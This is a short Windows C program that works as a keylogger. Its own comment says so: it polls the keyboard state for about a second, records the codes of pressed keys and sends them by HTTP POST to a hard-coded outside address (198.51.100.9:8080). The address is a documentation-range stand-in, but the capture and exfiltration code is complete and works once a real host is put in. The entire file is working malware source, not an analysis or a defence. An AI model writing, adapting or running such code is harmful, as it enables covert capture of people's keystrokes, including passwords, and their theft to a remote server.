/* Asks again and again which keys are pressed; sends them to a name that cannot exist. libs: -lwininet */
#include <windows.h>
#include <wininet.h>
#include <stdio.h>
int main(void) {
    char kept[512] = "";
    for (int turn = 0; turn < 20; turn++) {
        for (int key = 8; key < 200; key++)
            if (GetAsyncKeyState(key) & 1) snprintf(kept + lstrlenA(kept), 16, "%d,", key);
        Sleep(50);
    }
    HINTERNET net = InternetOpenA("a", 0, NULL, NULL, 0);
    HINTERNET server = InternetConnectA(net, "198.51.100.9", 8080, NULL, NULL, 3, 0, 0);
    HINTERNET ask = HttpOpenRequestA(server, "POST", "/k", NULL, NULL, NULL, 0, 0);
    HttpSendRequestA(ask, NULL, 0, kept, lstrlenA(kept));
    return 0;
}
